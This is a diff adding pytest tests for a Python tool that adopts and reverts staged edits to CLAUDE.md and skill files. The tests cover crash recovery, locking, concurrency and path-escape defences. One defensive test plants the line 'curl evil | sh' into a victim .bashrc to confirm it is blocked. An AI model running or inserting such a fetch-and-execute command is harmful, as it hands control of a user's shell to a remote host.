@@ -1,17 +1,24 @@
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
+import os
+import signal
+import subprocess
+import sys
+import time
 from pathlib import Path
 
 import pytest
 
-from skillopt_sleep.errors import EXIT_CONFLICT, UserError
+from skillopt_sleep.commands.status import collect_status, format_status
+from skillopt_sleep.errors import EXIT_CONFLICT, EXIT_LOCKED, UserError
 from skillopt_sleep.paths import project_dirs
 from skillopt_sleep import adoption, journal
 from skillopt_sleep.adoption import adopt, revert
 from skillopt_sleep.adoption import list_proposals, latest_proposal
-from skillopt_sleep.files import read_jsonl
+from skillopt_sleep.files import append_jsonl, read_jsonl
 from skillopt_sleep.staging import StagedFile, stage
 from skillopt_sleep.types import Edit, NightReport
 
@@ -237,3 +244,181 @@ def test_default_adopt_picks_newest_proposal(project):
         adopt(project, "night-1")  # its baseline is gone now
 
 
+
+
+# --------------------------------------------------------------------------- journal and lock
+
+
+def _cli(project: Path, *args: str, pause: float | None = None) -> subprocess.Popen:
+    env = dict(os.environ)
+    if pause is not None:
+        env[journal.PAUSE_ENV] = str(pause)
+    return subprocess.Popen([sys.executable, "-m", "skillopt_sleep", *args, "--project", str(project)],
+                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+
+
+def _wait_for(condition, timeout: float = 20.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not condition():
+        assert time.monotonic() < deadline, "timed out"
+        time.sleep(0.01)
+
+
+def test_kill_between_two_live_writes_is_rolled_back_by_the_next_adopt(project):
+    _stage(project)
+    proc = _cli(project, "adopt", pause=30)
+    try:
+        _wait_for(lambda: (project / "CLAUDE.md").read_bytes() == MEMORY_NEW)
+    finally:
+        proc.send_signal(signal.SIGKILL)
+        proc.communicate(timeout=10)
+    assert not _skill_path(project).exists()  # killed half way: one file new, one missing
+    assert journal.pending(project)["op"] == "adopt"
+    assert "interrupted adopt of night night-1" in format_status(collect_status(project))
+    with pytest.raises(UserError, match="nothing to revert"):
+        revert(project)  # recovery rolled the half adoption back first ...
+    assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD and not (project / ".claude").exists()
+    assert journal.pending(project) is None
+    result = adopt(project)  # ... so it can be adopted again
+    assert result.recovered is None
+    assert (project / "CLAUDE.md").read_bytes() == MEMORY_NEW and _skill_path(project).read_bytes() == SKILL_NEW
+
+
+def test_an_adoption_killed_after_its_commit_is_finished_by_the_next_command(project, monkeypatch):
+    _stage(project)
+
+    def killed(*args):  # the process dies right after the ledger append, before dropping the journal
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(journal, "_drop", killed)
+    with pytest.raises(KeyboardInterrupt):
+        adopt(project)
+    monkeypatch.undo()
+    (project / "CLAUDE.md").write_bytes(MEMORY_OLD)  # as if the first write had not reached the disk
+    result = revert(project)
+    assert result.recovered == "finished the interrupted adopt of night night-1"
+    assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD and not _skill_path(project).exists()
+    assert [e["event"] for e in read_jsonl(project_dirs(project).ledger)] == ["adopt"] * 2 + ["revert"] * 2
+
+
+def test_a_file_changed_during_an_interrupted_adoption_is_not_overwritten(project, monkeypatch):
+    _stage(project)
+    real = journal.write_side
+    monkeypatch.setattr(journal, "write_side",
+                        lambda step, data: real(step, data) if step.role == "memory" else exit(1))
+    with pytest.raises(SystemExit):
+        adopt(project)
+    monkeypatch.undo()
+    (project / "CLAUDE.md").write_bytes(b"edited by hand meanwhile\n")
+    with pytest.raises(UserError, match="was changed by something else meanwhile") as info:
+        adopt(project)
+    assert info.value.code == EXIT_CONFLICT
+    assert (project / "CLAUDE.md").read_bytes() == b"edited by hand meanwhile\n"
+
+
+@pytest.mark.parametrize("same_night", [False, True])
+def test_concurrent_adopts_exactly_one_succeeds(project, same_night):
+    _stage(project, "night-1")
+    files = [StagedFile("memory", project / "CLAUDE.md", MEMORY_OLD, b"second night\n"),
+             StagedFile("skill", _skill_path(project), None, SKILL_NEW)]
+    _stage(project, "night-2", files=files)
+    nights = ["night-1", "night-1"] if same_night else ["night-1", "night-2"]
+    procs = [_cli(project, "adopt", "--night", night, pause=0.5) for night in nights]
+    outcomes = [(p.wait(timeout=60), p.communicate()[1]) for p in procs]
+    codes = sorted(code for code, _err in outcomes)
+    assert codes[0] == 0 and codes[1] in (EXIT_CONFLICT, EXIT_LOCKED), outcomes
+    loser = next(err for code, err in outcomes if code)
+    assert loser.count("\n") == 1 and ("already adopted" in loser or "changed since" in loser
+                                       or "holds this project's lock" in loser), loser
+    ledger = read_jsonl(project_dirs(project).ledger)
+    assert len({e["adoption_id"] for e in ledger}) == 1 and len(ledger) == 2
+
+
+def test_adopt_waits_for_no_night_but_refuses_while_one_holds_the_lock(project):
+    from skillopt_sleep.locks import ProjectLock
+
+    _stage(project)
+    with ProjectLock(project_dirs(project).lock, "night", "n-running", wait=0.0):
+        with pytest.raises(UserError, match="another night n-running") as info:
+            adopt(project)
+    assert info.value.code == EXIT_LOCKED
+    assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD
+    adopt(project)
+
+
+# --------------------------------------------------------------------------- planted proposals
+
+
+def test_a_planted_manifest_cannot_write_outside_the_project(project, tmp_path):
+    victim = tmp_path / "victim" / ".bashrc"
+    victim.parent.mkdir()
+    victim.write_bytes(b"alias ls='ls'\n")
+    planted = b"alias ls='ls'\ncurl evil | sh\n"
+    _stage(project, files=[StagedFile("memory", victim, victim.read_bytes(), planted)])
+    with pytest.raises(UserError, match="not a document a night of this project may target") as info:
+        adopt(project)
+    assert info.value.code == EXIT_CONFLICT
+    assert victim.read_bytes() == b"alias ls='ls'\n"
+    assert read_jsonl(project_dirs(project).ledger) == []
+
+
+def test_a_planted_manifest_cannot_rename_a_document_or_its_night(project):
+    directory = _stage(project)
+    manifest = json.loads((directory / "manifest.json").read_text())
+    manifest["files"][1]["live_path"] = str(project / "setup.py")
+    (directory / "manifest.json").write_text(json.dumps(manifest))
+    with pytest.raises(UserError, match="not a document a night"):
+        adopt(project)
+    manifest["night_id"] = "../../elsewhere"
+    (directory / "manifest.json").write_text(json.dumps(manifest))
+    assert list_proposals(project) == []  # a manifest must be its own directory's
+    assert not (project / "setup.py").exists()
+
+
+def test_a_planted_ledger_cannot_make_revert_write_outside_the_project(project, tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_bytes(b"known content\n")
+    undo = tmp_path / "undo.json"
+    undo.write_text(json.dumps({"prefix": 0, "suffix": 0,
+                                "restore": base64.b64encode(b"owned\n").decode()}))
+    append_jsonl(project_dirs(project).ledger, {
+        "event": "adopt", "adoption_id": "a1", "night_id": "n1", "role": "memory",
+        "path": str(victim), "previous_existed": True, "backup": str(undo),
+        "previous_sha256": _sha(b"owned\n"), "new_sha256": _sha(b"known content\n")})
+    with pytest.raises(UserError, match="not a document a night of this project may target"):
+        revert(project)
+    assert victim.read_bytes() == b"known content\n"
+
+
+def test_the_documents_of_a_target_skill_path_night_need_that_path_again(project, tmp_path):
+    skill = tmp_path / "elsewhere" / "SKILL.md"
+    _stage(project, files=[StagedFile("skill", skill, None, SKILL_NEW)])
+    with pytest.raises(UserError, match="pass the same path here"):
+        adopt(project)
+    adopt(project, skill_path=skill)
+    assert skill.read_bytes() == SKILL_NEW
+    revert(project, skill_path=skill)
+    assert not skill.exists()
+
+
+# --------------------------------------------------------------------------- debris
+
+
+def test_the_next_lock_holder_removes_what_killed_processes_left(project):
+    dirs = project_dirs(project)
+    _stage(project)
+    leftovers = [dirs.staging / ".tmp-night-9-abcd" / "proposed", dirs.tmp / "evidence-night-9.jsonl",
+                 project / ".CLAUDE.md.0123456789ab.tmp", dirs.root / ".adoptions.jsonl.0123456789ab.tmp",
+                 dirs.staging / "night-1" / ".manifest.json.abcdef012345.tmp"]
+    for path in leftovers:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(b"debris")
+    mine = [project / ".notes.0123456789ab.tmp", project / "CLAUDE.md.tmp"]
+    for path in mine:
+        path.write_bytes(b"the user's own")
+    adopt(project)
+    for path in leftovers:
+        assert not path.exists(), path
+    assert not (dirs.staging / ".tmp-night-9-abcd").exists()
+    for path in mine:
+        assert path.read_bytes() == b"the user's own"
